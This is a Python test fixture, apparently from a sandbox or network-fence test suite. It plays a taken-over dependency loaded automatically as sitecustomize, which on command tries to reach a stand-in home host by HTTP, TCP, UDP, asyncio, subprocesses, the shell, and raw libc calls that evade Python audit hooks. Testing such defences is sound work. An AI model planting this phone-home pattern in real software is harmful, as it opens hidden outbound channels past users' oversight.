"""A dependency that was taken over: it calls home, in the ways that it is told.

`tests/fence/taken_over.py` puts it beside the program as `sitecustomize`, which Python loads by
itself. So it is in the program's own process, as any library is.
"""

import asyncio
import ctypes
import os
import socket
import struct
import subprocess
import threading
import urllib.request

HOME = os.environ.get("ROGUE_HOME", "")


def by_name() -> None:
    urllib.request.urlopen("https://home.example/", timeout=1)


def by_address() -> None:
    socket.create_connection((HOME, 443), 1)


def by_datagram() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as speaker:
        speaker.sendto(b"x", (HOME, 53))


def by_event_loop() -> None:
    async def calls() -> None:
        await asyncio.wait_for(asyncio.open_connection(HOME, 443), 1)

    asyncio.run(calls())


def by_program() -> None:
    subprocess.run(["perl", "-e", "1"], check=True)


def by_shell() -> None:
    os.system("true")


def natively() -> None:
    """Past Python: no audit hook hears of it."""
    kernel = ctypes.CDLL(None, use_errno=True)
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", 443)
    address += socket.inet_aton(HOME) + bytes(8)
    speaker = kernel.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    try:
        if kernel.connect(speaker, address, len(address)) != 0:
            raise OSError("stopped by the system")
    finally:
        os.close(speaker)


IN_PYTHON = (by_name, by_address, by_datagram, by_event_loop, by_program, by_shell)
WAYS = {way.__name__: way for way in (*IN_PYTHON, natively)}


def obey(orders: str, outcomes: str) -> None:
    """Do what is told, one way a line, and say what came of it."""
    while True:
        with open(orders) as told, open(outcomes, "w", buffering=1) as said:
            for line in told:
                said.write(f"{outcome_of(line.strip())}\n")


def outcome_of(way: str) -> str:
    try:
        WAYS[way]()
    except BaseException as why:  # it goes on, whatever it meets
        # A library wraps what it catches.
        return type(getattr(why, "reason", why)).__name__
    return "home"


if "ROGUE_ORDERS" in os.environ:
    where = (os.environ["ROGUE_ORDERS"], os.environ["ROGUE_OUTCOMES"])
    threading.Thread(target=obey, args=where, daemon=True).start()
